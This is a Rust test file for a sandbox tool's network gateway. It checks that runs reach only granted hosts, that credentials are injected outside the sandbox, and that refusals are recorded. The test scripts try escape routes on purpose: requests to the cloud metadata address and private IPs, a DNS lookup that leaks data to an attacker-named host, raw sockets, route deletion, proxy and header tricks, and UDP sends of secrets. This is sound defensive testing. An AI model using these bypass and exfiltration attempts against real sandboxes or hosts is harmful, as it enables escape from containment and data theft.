//! What a task reaches through the gateway, and that there is no way round it. Each test has a network of its own, with
//! servers of `tests/network/`: nobody on the internet is ever asked.

use crate::host;
use crate::project::Project;
use crate::running::Running;
use crate::world::{MANY_CONNECTIONS, SECRET, World, events, inside, run};
use serde_json::Value;
use std::process::Command;

/// A host with opened TLS whose requests get a header, and one on a private address.
pub(crate) const INJECTS: &str = r#"
permissions:
  network:
    - host: web.example.com
      ports: [443]
      methods: [GET, POST]
      inject: {header: Authorization, value: "Bearer ${KEY}", from: {env: KEY}}
    - {host: inner.example.com, ports: [80, 5432], private: true}
"#;

#[test]
fn a_granted_host_is_reached_by_name_and_is_on_record() {
    let project = Project::new();
    let script = "curl -sS -m 10 http://web.example.com/some/path?q=secret-query";
    let ran = or_skipped!(run(&project, &["--allow-host", "web.example.com"], script));
    ran.ok().prints("GET /some/path?q=secret-query of web.example.com");
    let request = &events(&project, "network_request")[0];
    assert_eq!((request["method"].as_str(), request["path"].as_str()), (Some("GET"), Some("/some/path")));
    assert!(!request.to_string().contains("secret-query"), "{request}");
    assert_eq!(events(&project, "network_dialled")[0]["address"], "93.184.215.14:80");
    let summary = project.summary();
    let host = &summary["network"]["hosts"][0];
    assert_eq!((host["host"].as_str(), host["connections"].as_u64()), (Some("web.example.com"), Some(1)));
    assert!(host["received"].as_u64().unwrap() > 50, "{host}");
    let proof = summary["enforced"]["network"]["proof"].as_str().unwrap();
    assert!(proof.contains("ECONNREFUSED"), "{proof}");
}

#[test]
fn nothing_but_what_was_granted_is_reached() {
    let project = Project::new();
    let script = r#"
        try() { curl -sS -m 5 "$@" >/tmp/got 2>/tmp/why; grep -q ' of ' /tmp/got && echo "REACHED $*"; }
        try http://other.example.com/; try http://93.184.215.14/; try http://10.0.0.1/; try http://169.254.169.254/
        try http://web.example.com:5432/; try http://web.example.com:81/; try http://inner.example.com/
        try -H 'Host: other.example.com' http://web.example.com/; try --resolve other.example.com:80:93.184.215.14 http://other.example.com/
        try -x http://127.0.0.1:3128 http://other.example.com/; try -x http://127.0.0.1:3128 -p http://10.0.0.1/
        getent hosts data.in.the.name.attacker.example && echo REACHED by a name
        python3 - <<'END'
import socket
for family, kind, to in [(2, 2, ("93.184.215.14", 443)), (2, 2, ("8.8.8.8", 53)), (10, 1, ("2606:2800:21f::1", 80))]:
    try:
        there = socket.socket(family, kind); there.settimeout(2); there.connect(to); there.send(b"GET / HTTP/1.0\r\n\r\n")
        got = there.recv(2000)
        print("REACHED", to) if b" of " in got else None
    except OSError:
        pass
for kind in (socket.SOCK_RAW, socket.SOCK_PACKET if hasattr(socket, "SOCK_PACKET") else socket.SOCK_RAW):
    try:
        socket.socket(socket.AF_INET, kind, 1); print("REACHED by a raw socket")
    except OSError:
        pass
END
        ip route del local default dev lo table local 2>/dev/null && echo REACHED the routes
        echo done"#;
    let ran = or_skipped!(run(&project, &["--allow-host", "web.example.com"], script));
    ran.ok().stdout("done\n");
    let dialled: Vec<String> = events(&project, "network_dialled").iter().map(Value::to_string).collect();
    assert!(dialled.is_empty(), "{dialled:?}");
    let refused = project.summary()["network"]["refused"].to_string();
    for target in ["other.example.com", "169.254.169.254", "10.0.0.1", "data.in.the.name.attacker.example"] {
        assert!(refused.contains(target), "{target} is not on record: {refused}");
    }
}

#[test]
fn a_credential_is_added_outside_and_never_comes_in() {
    let project = Project::with(&[("sandbox.yaml", INJECTS)]);
    let script = "env; curl -sS -m 10 https://web.example.com/a; curl -sS -m 10 -d x https://web.example.com/b;
        curl -sS -m 10 -X DELETE https://web.example.com/c; curl -sS -m 10 http://inner.example.com/d";
    let consents = ["--allow-host", "web.example.com:443", "--allow-host", "inner.example.com:80"];
    let ran = or_skipped!(run(&project, &consents, script));
    ran.ok()
        .prints("GET /a of web.example.com")
        .prints("POST /b of web.example.com")
        .prints("GET /d of inner.example.com");
    let said = String::from_utf8_lossy(&ran.stdout).into_owned();
    assert!(said.contains("authorization: Bearer ***") && !said.contains(SECRET), "{said}");
    assert!(said.contains("policy refused DELETE web.example.com:443/c"), "{said}");
    let found = Command::new("grep").args(["-r", "-l", SECRET, "."]).current_dir(project.path()).output().unwrap();
    assert!(found.stdout.is_empty(), "{}", String::from_utf8_lossy(&found.stdout));
    assert!(events(&project, "network_request").iter().any(|request| request["injected"] == true));
}

#[test]
fn a_file_alone_gives_no_credential_away_and_no_private_address() {
    let project = Project::with(&[("sandbox.yaml", INJECTS)]);
    let ran = or_skipped!(run(&project, &[], "true"));
    ran.refused(&["a file alone may not send your `KEY` to `web.example.com`", "--allow-host web.example.com"]);
    let half = or_skipped!(run(&project, &["--allow-host", "web.example.com:443"], "true"));
    half.refused(&["a file alone may not open private addresses", "inner.example.com"]);
    assert!(!project.path().join(".aido").exists(), "something was made");
}

#[test]
fn without_its_gateway_a_run_has_no_network() {
    let project = Project::new();
    let script = r#""$AIDO" run --quiet --allow-host web.example.com -- sh -c '
            curl -sS -m 5 http://web.example.com/ | head -1; sleep 6
            curl -sS -m 5 http://web.example.com/; echo "status $?"' &
        running=$!
        while test -z "$(pgrep -f ^aido-gateway)"; do sleep 0.1; done
        sleep 3; pgrep -f ^aido-gateway | xargs kill -9; wait $running; echo "aido $?"
        pgrep -f ^aido-gateway && echo LEFT; true"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    ran.ok().prints("GET / of web.example.com").prints("aido 0");
    let said = String::from_utf8_lossy(&ran.stdout).into_owned();
    assert!(!said.contains("status 0") && !said.contains("LEFT"), "{ran}");
    assert_eq!(events(&project, "network_lost").len(), 1);
    assert!(project.summary()["warnings"].to_string().contains("the gateway is gone"));
}

#[test]
fn a_gateway_goes_with_its_run_however_that_ends() {
    let project = Project::new();
    let script = r#"
        "$AIDO" run --quiet --allow-host web.example.com -- sleep 60 & running=$!
        while test -z "$(pgrep -f ^aido-gateway)"; do sleep 0.1; done
        sleep 1; kill -9 $(pgrep -P $running); wait $running
        "$AIDO" run --quiet --ttl 1s --allow-host web.example.com -- sleep 60
        "$AIDO" run --quiet --allow-host web.example.com -- no-such-program
        sleep 0.5; pgrep -fa ^aido- && echo LEFT; true"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    ran.ok().stdout("");
}

#[test]
fn many_connections_are_bounded_and_the_run_goes_on() {
    let yaml = "permissions:\n  network:\n    - {host: inner.example.com, ports: [5432], private: true}\n";
    let project = Project::with(&[("sandbox.yaml", yaml)]);
    let script = format!("python3 - <<'END'\n{MANY_CONNECTIONS}END");
    let ran = or_skipped!(run(&project, &["--allow-host", "inner.example.com:5432"], &script));
    ran.ok().prints("held True").prints("still there");
}

#[test]
fn runs_side_by_side_have_gateways_of_their_own() {
    let project = Project::new();
    let script = r#"
        for host in web other; do
            "$AIDO" run --quiet --allow-host $host.example.com -- sh -c "
                curl -sS -m 9 http://$host.example.com/ | head -1; sleep 1
                curl -sS -m 9 http://web.example.com/ http://other.example.com/ | grep -c ' of '" >$host.txt &
        done; wait; cat web.txt other.txt"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    ran.ok().stdout("GET / of web.example.com\n1\nGET / of other.example.com\n1\n");
}

#[test]
fn what_was_refused_is_shown_with_the_line_that_would_allow_it() {
    let project = Project::new();
    let script =
        r#""$AIDO" run --quiet --allow-host web.example.com -- curl -sS -m 5 http://other.example.com/; "$AIDO" show"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    ran.ok()
        .prints("the gateway refused the look-up of other.example.com")
        .prints("permissions: {network: [web.example.com, other.example.com]}");
}

#[test]
fn a_network_that_cannot_be_held_is_refused() {
    let project = Project::new();
    let ran = project.aido(["run", "--isolation", "landlock", "--allow-host", "web.example.com", "--", "true"]);
    ran.refused(&["a network is not enforced", "--isolation full"]);
}

#[test]
fn who_learns_reaches_nothing_and_knows_what_to_grant() {
    let project = Project::new();
    let script = r#""$AIDO" run --quiet --learn -- sh -c '
            curl -sS -m 5 http://web.example.com/ | grep -c " of "; curl -sS -m 5 https://other.example.com/; true'; "$AIDO" show"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    ran.ok().prints("web.example.com").prints("other.example.com");
    assert!(ran.stdout.starts_with(b"0\n"), "{ran}");
    assert!(events(&project, "network_dialled").is_empty());
    let refused = project.summary()["network"]["refused"].to_string();
    assert!(refused.contains("{host: web.example.com, ports: [80]}"), "{refused}");
    assert!(refused.contains("{host: other.example.com, ports: [443]}"), "{refused}");
}

/// One number of its own and no control over others: what most people are where there are no subordinate ids.
#[test]
fn an_ordinary_user_with_one_number_has_the_same_network() {
    let project = Project::with(&[("sandbox.yaml", INJECTS)]);
    let world = World { plain: true, ..World::default() };
    let script = "id -u; curl -sS -m 10 https://web.example.com/a; curl -sS -m 5 http://other.example.com/";
    let consents = ["--allow-host", "web.example.com:443", "--allow-host", "inner.example.com:80"];
    let ran = or_skipped!(world.run(&project, &consents, script));
    ran.code(6).prints("GET /a of web.example.com").prints("authorization: Bearer ***");
    assert!(!ran.text().contains("of other"), "{ran}");
}

#[test]
fn a_sandbox_that_is_up_has_its_network_in_each_of_its_runs() {
    let project = Project::with(&[("sandbox.yaml", "ttl: 2m\n")]);
    let script = r#"
        id=$("$AIDO" sandbox up --quiet --allow-host web.example.com) || exit 9
        for n in 1 2 3; do
            "$AIDO" run --quiet --sandbox "$id" -- curl -sS -m 9 http://web.example.com/$n http://other.example.com/$n
        done
        "$AIDO" run --quiet --sandbox "$id" -- sh -c 'curl -sS -m 5 http://web.example.com/with; curl -sS -m 5 http://10.0.0.1/'
        "$AIDO" show | grep -c 10.0.0.1; "$AIDO" sandbox destroy --all; sleep 0.3; pgrep -fa ^aido- && echo LEFT; true"#;
    let ran = Running::start(or_skipped!(inside(&project, &["sh", "-c", script]))).end();
    ran.ok();
    for n in ["1", "2", "3", "with"] {
        ran.prints(&format!("GET /{n} of web.example.com"));
    }
    let said = ran.text();
    assert!(!said.contains("of other") && !said.contains("of 10.0.0.1") && !said.contains("LEFT"), "{ran}");
}

#[test]
fn an_images_programs_trust_the_run_too() {
    let Some(images) = host::images() else { skip!("AIDO_IMAGES is not set: run ci/test") };
    let project = Project::with(&[("sandbox.yaml", INJECTS)]);
    let layout = format!("oci:{}/python", images.display());
    let consents =
        ["--allow-host", "web.example.com:443", "--allow-host", "inner.example.com:80", "--runtime", &layout];
    let script = r#"python3 - <<'END'
import urllib.request
print(urllib.request.urlopen("https://web.example.com/from-an-image", timeout=20).read().decode())
try:
    urllib.request.urlopen("https://other.example.com/", timeout=20)
    print("REACHED")
except OSError as error:
    print("refused")
END"#;
    let ran = or_skipped!(run(&project, &consents, script));
    ran.ok().prints("GET /from-an-image of web.example.com").prints("refused");
    assert!(!ran.text().contains("REACHED"), "{ran}");
}

#[test]
fn datagrams_lead_nowhere_and_are_on_record() {
    let project = Project::new();
    let script = r#"python3 - <<'END'
import socket
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for n in range(3):
    out.sendto(b"secret", ("9.9.9.9", 53))
out.sendto(b"quic", (socket.gethostbyname("web.example.com"), 443))
out.sendto(b"mine", ("127.0.0.1", 9999))
out.settimeout(1)
try:
    print("REACHED", out.recv(100))
except OSError:
    print("nothing came")
END"#;
    let ran = or_skipped!(run(&project, &["--allow-host", "web.example.com"], script));
    ran.ok().stdout("nothing came\n");
    let told: Vec<(String, u64)> = events(&project, "network_datagrams")
        .iter()
        .map(|event| {
            (event["words"].as_str().unwrap_or_default().to_string(), event["count"].as_u64().unwrap_or_default())
        })
        .collect();
    let words = |to: &str| format!("policy refused datagrams to {to}: UDP leads nowhere; hosts are reached by TCP");
    let expected = [(words("9.9.9.9:53"), 1), (words("web.example.com:443"), 1), (words("9.9.9.9:53"), 2)];
    assert_eq!(told, expected);
    let refused = &project.summary()["network"]["refused"];
    assert_eq!((refused[0]["target"].as_str(), refused[0]["count"].as_u64()), (Some("9.9.9.9"), Some(3)), "{refused}");
}
